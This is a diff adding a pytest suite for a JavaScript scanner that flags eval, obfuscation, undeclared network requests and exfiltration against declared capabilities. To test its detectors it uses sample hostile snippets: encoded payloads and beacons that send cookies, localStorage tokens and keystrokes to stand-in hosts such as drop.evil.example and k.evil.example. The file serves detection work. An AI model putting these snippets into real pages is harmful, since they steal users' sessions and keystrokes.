@@ -1,0 +1,100 @@
+"""Behaviour of the JS analyzers beyond the per-rule samples."""
+
+from __future__ import annotations
+
+import base64
+
+from scanner.config import PROJECT_ROOT
+from scanner.findings import Category, Finding, Severity
+from scanner.js.engine import analyze_source
+from scanner.manifest import Capabilities, Origin
+from scanner.stages.js_static import compiled_rules
+
+RULES = compiled_rules(PROJECT_ROOT / "rules" / "js")
+
+
+def _findings(source: str, caps: Capabilities | None = None) -> list[Finding]:
+    return analyze_source("a.js", source.encode(), RULES, caps or Capabilities()).findings
+
+
+def _cats(findings: list[Finding], minimum: Severity = Severity.LOW) -> set[Category]:
+    return {f.category for f in findings if f.severity >= minimum}
+
+
+def test_declared_capability_turns_the_finding_into_info() -> None:
+    source = "var f = new Function('a', userCode);"
+    assert max(f.severity for f in _findings(source)) is Severity.MEDIUM
+    declared = _findings(source, Capabilities(eval=True))
+    assert [f.severity for f in declared] == [Severity.INFO]
+    assert "declares eval" in declared[0].message
+
+
+def test_eval_of_an_encoded_payload_is_analysed_in_turn() -> None:
+    payload = "fetch('https://drop.evil.example/c?d=' + document.cookie)"
+    source = f"eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
+    findings = _findings(source, Capabilities(eval=True))
+    by_rule = {f.rule_id: f for f in findings}
+    assert by_rule["js-eval"].severity is Severity.CRITICAL  # declared eval does not excuse hidden code
+    assert by_rule["js-encoded-payload"].category is Category.OBFUSCATION
+    assert by_rule["js-network-request"].category is Category.EXFILTRATION
+    assert "drop.evil.example" in by_rule["js-network-request"].message
+    assert by_rule["js-cookie-access"].message.startswith("in code decoded at line 1")
+
+
+def test_global_object_idiom_is_not_dynamic_code() -> None:
+    assert _findings("var g = Function('return this')();") == []
+
+
+def test_request_to_a_declared_origin_is_quiet() -> None:
+    caps = Capabilities(network=(Origin("https", "api.acme.example", None),))
+    source = "fetch('https://api.acme.example/v1/save', {method: 'POST', body: JSON.stringify(state)});"
+    assert _findings(source, caps) == []
+
+
+def test_request_built_from_char_codes_is_resolved() -> None:
+    codes = ", ".join(str(ord(c)) for c in "https://evil.example/")
+    source = f"var u = String.fromCharCode({codes}); navigator.sendBeacon(u + 'x', data);"
+    findings = _findings(source)
+    beacon = next(f for f in findings if f.rule_id == "js-network-request")
+    assert beacon.category is Category.EXFILTRATION and "evil.example" in beacon.message
+
+
+def test_constant_request_to_undeclared_origin_is_undeclared_not_exfiltration() -> None:
+    findings = _findings("fetch('https://cdn.other.example/config.json');")
+    assert _cats(findings) == {Category.UNDECLARED_CAPABILITY}
+
+
+def test_sensitive_data_in_an_undeclared_request_is_critical() -> None:
+    findings = _findings("fetch('https://x.evil.example/', {method: 'POST', body: localStorage.getItem('t')});")
+    assert any(f.category is Category.EXFILTRATION and f.severity is Severity.CRITICAL for f in findings)
+
+
+def test_computed_url_without_declared_network_is_undeclared() -> None:
+    findings = _findings("fetch(endpoint + '/items');")
+    assert _cats(findings) == {Category.UNDECLARED_CAPABILITY}
+    caps = Capabilities(network=(Origin("https", "api.acme.example", None),))
+    assert _findings("fetch(endpoint + '/items');", caps) == []
+
+
+def test_guarded_polyfill_is_not_an_override() -> None:
+    findings = _findings("if (typeof window.fetch !== 'function') { window.fetch = poly; }")
+    assert all(f.severity is Severity.INFO for f in findings)
+    assert _cats(_findings("XMLHttpRequest.prototype.send = spy;")) == {Category.DOM_ESCAPE}
+
+
+def test_cookie_write_is_weaker_than_a_read() -> None:
+    write = _findings("document.cookie = 'theme=dark';")
+    assert [(f.category, f.severity) for f in write] == [(Category.UNDECLARED_CAPABILITY, Severity.MEDIUM)]
+
+
+def test_stashed_base64_javascript_is_found_without_an_eval() -> None:
+    code = "document.addEventListener('keydown', function (e) { fetch('https://k.evil.example/?k=' + e.key); });" * 5
+    source = f"var blob = '{base64.b64encode(code.encode()).decode()}';"
+    cats = _cats(_findings(source))
+    assert {Category.OBFUSCATION, Category.DOM_ESCAPE, Category.EXFILTRATION} <= cats
+
+
+def test_page_listener_for_input_events_only() -> None:
+    assert _cats(_findings("window.addEventListener('keypress', log);")) == {Category.DOM_ESCAPE}
+    assert _findings("window.addEventListener('scroll', onScroll);") == []
+    assert _cats(_findings("document.onkeydown = log;")) == {Category.DOM_ESCAPE}
